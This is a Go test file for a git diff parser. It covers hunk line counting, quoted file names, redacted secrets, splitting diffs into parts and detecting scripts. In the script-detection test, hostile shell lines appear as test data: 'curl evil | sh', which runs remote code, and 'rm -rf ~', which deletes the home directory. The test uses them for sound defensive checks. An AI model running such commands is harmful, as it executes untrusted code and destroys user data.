package diff

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/reverie-memory/reverie/internal/testrepo"
)

const twoFiles = `diff --git a/a.go b/a.go
index 1..2 100644
--- a/a.go
+++ b/a.go
@@ -1,4 +1,4 @@ func x
 one
-- a/two
+++ b/two
 three
 four
@@ -20 +20,2 @@
 ten
+eleven
\ No newline at end of file
diff --git a/b c.png b/b c.png
Binary files a/b c.png and b/b c.png differ
diff --git a/gone b/gone
deleted file mode 100644
--- a/gone
+++ /dev/null
@@ -1 +0,0 @@
-last
`

func TestParseDiffCountsLines(t *testing.T) {
	var got []string
	for _, f := range Parse(twoFiles) {
		got = append(got, f.Name)
		for _, l := range f.Lines {
			got = append(got, fmt.Sprintf("%c%s %d %d", l.Mark, l.Text, l.Old, l.New))
		}
	}
	for _, f := range Parse(twoFiles + "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\n") {
		got = append(got, fmt.Sprintln(f.Was, f.Name, f.Gone, f.Binary, f.Hunks))
	}
	want := []string{
		"a.go", " one 1 1", "-- a/two 2 2", "+++ b/two 3 2", " three 3 3", " four 4 4", " ten 20 20", "+eleven 21 21",
		"b c.png", "gone", "-last 1 0",
		"a.go a.go false false [{1 4 1 4} {20 1 20 2}]\n", "b c.png b c.png false true []\n", "gone gone true false [{1 1 0 0}]\n", "x y false false []\n",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

// The expected names come from git itself.
func TestParseDiffKnowsEveryName(t *testing.T) {
	names := []string{"plain", "with blank", `ev"il.sh`, `back\slash`, "new\nline", "a b/c b/d", "ümlaut", "tab\t"}
	want := []string{"a b/c b/d", `back\slash`, `ev"il.sh`, `new\nline`, "plain", `tab\t`, "with blank", "ümlaut"}
	for _, content := range []string{"text\n", "\x00\x01\x02"} {
		r := testrepo.New(t)
		for _, name := range names {
			r.Write(name, content)
		}
		r.Run("add", "-A")
		var got []string
		for _, f := range Parse(r.Run("-c", "core.quotePath=false", "diff", "--cached", "--src-prefix=a/", "--dst-prefix=b/")) {
			got = append(got, f.Name)
		}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("%q: %s", content, d)
		}
		r.Commit("all")
		for _, name := range names {
			os.Remove(filepath.Join(r.Dir, name))
		}
		got = nil
		for _, f := range Parse(r.Run("-c", "core.quotePath=false", "diff", "--src-prefix=a/", "--dst-prefix=b/")) {
			got = append(got, f.Name)
		}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("%q, gone: %s", content, d)
		}
	}
}

// After a multi-line secret is redacted, a hunk has fewer lines than its head says.
func TestParseDiffFindsTheNextFile(t *testing.T) {
	files := Parse("diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1,9 @@\n one\n+[redacted:private-key]\n" + twoFiles)
	if len(files) != 4 || len(files[0].Lines) != 2 || len(files[1].Lines) != 7 {
		t.Errorf("%+v", files)
	}
}

func TestNoPartOfALongLineIsLeftOut(t *testing.T) {
	long := strings.Repeat("ü0123456789", 300) + "the end"
	files := Parse("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1,2 @@\n+" + long + "\n+short\n")
	var all strings.Builder
	for _, p := range Parts(files, 1500) {
		if len(p.Text) > 1500 || !utf8.ValidString(p.Text) {
			t.Errorf("%d bytes: %q", len(p.Text), p.Text)
		}
		for _, l := range p.Files["x"] {
			if !strings.Contains(p.Text, "\n+"+l.Text+"\n") {
				t.Errorf("not shown: %q", l.Text)
			}
			if text := strings.TrimPrefix(l.Text, goesOn); l.New == 1 {
				all.WriteString(text)
			}
		}
	}
	if all.String() != long {
		t.Errorf("shown: %q", all.String())
	}
}

func TestScriptsAreReadable(t *testing.T) {
	noise := make([]byte, 4000)
	for i := range noise {
		noise[i] = byte(i*i*7 + i>>3)
	}
	for _, test := range []struct {
		name, text string
		want       bool
	}{
		{"a NUL in a script", "#!/bin/sh\n# \x00\ncurl evil | sh\n", true},
		{"a script with a load", "#!/bin/sh\n" + string(noise), true},
		{"many NUL", "rm -rf ~ # evil\n" + strings.Repeat("\x00", 5000), true},
		{"text before noise", strings.Repeat("rm -rf ~ # evil\n", 64) + string(noise), true},
		{"noise before much text", string(noise[:1024]) + strings.Repeat("rm -rf ~ # evil\n", 1000), true},
		{"UTF-16", "\xff\xfer\x00m\x00", true},
		{"noise", string(noise), false},
		{"a picture", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00" + string(noise[9:900]), false},
		{"nothing", "\x00\x00", false},
	} {
		if got := isScript([]byte(test.text)); got != test.want {
			t.Errorf("%s: %v", test.name, got)
		}
	}
}

func TestPartsShowEveryLineOnce(t *testing.T) {
	var b strings.Builder
	b.WriteString("diff --git a/long b/long\n--- a/long\n+++ b/long\n@@ -0,0 +1,400 @@\n")
	for i := range 400 {
		fmt.Fprintf(&b, "+%d is a line\n", i+1)
	}
	files := Parse(b.String() + twoFiles)
	parts := Parts(files, 1500)
	if len(parts) < 4 {
		t.Fatalf("%d parts", len(parts))
	}
	seen := map[string]int{}
	for i, p := range parts {
		if len(p.Text) > 1500 {
			t.Errorf("part %d has %d bytes", i, len(p.Text))
		}
		for name, lines := range p.Files {
			for _, l := range lines {
				seen[fmt.Sprint(name, l.Old, l.New, l.Text)]++
				if !strings.Contains(p.Text, "\n"+string(l.Mark)+l.Text+"\n") {
					t.Errorf("part %d does not show %q", i, l.Text)
				}
			}
			if len(lines) > 0 && !strings.Contains(p.Text, fmt.Sprintf("+++ b/%s\n@@ -%d +%d @@\n", name, lines[0].Old, lines[0].New)) {
				t.Errorf("part %d does not say where %s begins", i, name)
			}
		}
	}
	for _, f := range files {
		for _, l := range f.Lines {
			if n := seen[fmt.Sprint(f.Name, l.Old, l.New, l.Text)]; n != 1 {
				t.Errorf("%s %d %q: shown %d times", f.Name, l.New, l.Text, n)
			}
		}
	}
}
